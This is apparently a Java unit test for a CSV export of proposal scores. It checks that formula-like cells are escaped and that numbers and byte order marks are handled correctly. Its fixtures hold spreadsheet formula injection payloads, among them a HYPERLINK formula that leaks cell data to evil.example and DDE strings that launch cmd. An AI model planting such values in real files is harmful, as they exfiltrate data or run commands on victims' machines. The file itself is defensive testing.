package org.convoca.outcome;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.MappingIterator;
import com.fasterxml.jackson.dataformat.csv.CsvMapper;
import com.fasterxml.jackson.dataformat.csv.CsvSchema;
import java.io.StringWriter;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.function.Function;
import java.util.stream.Collectors;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class OutcomeCsvTest {

  /** A title per proposal, each starting with a character that makes a spreadsheet formula. */
  private static final Map<String, String> FORMULAS = Map.of(
      "P-01", "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click for details\")",
      "P-02", "@SUM(1+1)*cmd|' /C calc'!A0",
      "P-03", "+1",
      "P-04", "-1+2",
      "P-05", "\t=1+1",
      "P-06", "\r=1+1",
      "P-07", "\0=1+1");

  private final CallOutcome outcome = HostileOutcomes.with("=cmd|' /C calc'!A0",
      id -> FORMULAS.getOrDefault(id, "Proposal " + id));

  @Test
  void quotesEveryTextCellThatASpreadsheetWouldTakeForAFormula() throws Exception {
    Map<String, Map<String, String>> rows = rowsById(csv(outcome));

    FORMULAS.forEach((id, title) -> assertThat(rows.get(id)).containsEntry("title", "'" + title));
    assertThat(rows.get("P-08")).containsEntry("title", "Proposal P-08");
    assertThat(rows.values()).allSatisfy(row -> assertThat(row).containsEntry("applicant", "'=cmd|' /C calc'!A0"));
    assertThat(rows.values()).allSatisfy(row -> assertThat(row.values())
        .noneMatch(cell -> !cell.isEmpty() && "=+-@\t\r\0".indexOf(cell.charAt(0)) >= 0 && !isNumber(cell)));
  }

  @Test
  void leavesNumbersAsNumbersEvenWhenNegative() throws Exception {
    Map<String, String> penalised = rowsById(csv(outcome)).get("P-12");

    assertThat(penalised).containsEntry("total", "-5").containsEntry("points_cocreation", "-2")
        .containsEntry("requested", "10").containsEntry("points_quality", "5");
    assertThat(rowsById(csv(outcome)).get("P-01")).containsEntry("rank", "1").containsEntry("total", "90");
  }

  @Test
  void leavesTextThatMakesNoFormulaAlone() {
    assertThat(OutcomeCsv.inert("")).isEmpty();
    assertThat(OutcomeCsv.inert("Open data portal - phase 2")).isEqualTo("Open data portal - phase 2");
    assertThat(OutcomeCsv.inert(" =1+1")).isEqualTo(" =1+1");
    assertThat(OutcomeCsv.inert("-1")).isEqualTo("'-1");
  }

  @Test
  void writesNoByteOrderMarkUnlessAskedFor() {
    assertThat(csv(outcome)).startsWith("id,title,");

    StringWriter out = new StringWriter();
    OutcomeWriters.csv(outcome, out, CsvOptions.standard().withByteOrderMark());
    assertThat(out.toString()).startsWith("\uFEFFid,title,").hasSize(csv(outcome).length() + 1);
  }

  @Test
  void writesTheByteOrderMarkAsTheThreeUtf8BytesOfAFile(@TempDir Path dir) throws Exception {
    OutcomeWriters.csv(outcome, dir.resolve("plain.csv"));
    OutcomeWriters.csv(outcome, dir.resolve("bom.csv"), CsvOptions.standard().withByteOrderMark());

    byte[] plain = Files.readAllBytes(dir.resolve("plain.csv"));
    byte[] bom = Files.readAllBytes(dir.resolve("bom.csv"));
    assertThat(new String(plain, 0, 3, StandardCharsets.UTF_8)).isEqualTo("id,");
    assertThat(bom).startsWith(0xEF, 0xBB, 0xBF).hasSize(plain.length + 3);
  }

  @Test
  void addsTheJurysFiguresPerCriterionItScoresAndNamesAnIncompleteReview() throws Exception {
    String csv = csv(JuryPanelOutcomes.outcome());
    Map<String, Map<String, String>> rows = rowsById(csv);

    assertThat(csv.lines().findFirst().orElseThrow())
        .endsWith(",points_quality,jury_quality,jury_quality_valid,jury_quality_excluded,jury_quality_consensus");
    assertThat(rows.get("P-04")).containsEntry("jury_quality", "4.5").containsEntry("jury_quality_valid", "2")
        .containsEntry("jury_quality_excluded", "1").containsEntry("jury_quality_consensus", "true");
    assertThat(rows.get("P-03")).containsEntry("decision", "INCOMPLETE_REVIEW").containsEntry("jury_quality_valid", "1")
        .containsEntry("jury_quality_consensus", "false");
    assertThat(rows.get("P-03").get("jury_quality")).matches("\\d\\.\\d\\d");
    assertThat(csv(OutcomeFixtures.workedExampleOutcome()).lines().findFirst().orElseThrow()).doesNotContain("jury_");
  }

  private static String csv(CallOutcome outcome) {
    StringWriter out = new StringWriter();
    OutcomeWriters.csv(outcome, out);
    return out.toString();
  }

  private static boolean isNumber(String cell) {
    return cell.matches("-?\\d+(\\.\\d+)?");
  }

  private static Map<String, Map<String, String>> rowsById(String csv) throws Exception {
    List<Map<String, String>> rows;
    try (MappingIterator<Map<String, String>> it = new CsvMapper().readerForMapOf(String.class)
        .with(CsvSchema.emptySchema().withHeader()).readValues(csv)) {
      rows = it.readAll();
    }
    return rows.stream().collect(Collectors.toMap(r -> r.get("id"), Function.identity(), (a, b) -> a, TreeMap::new));
  }
}
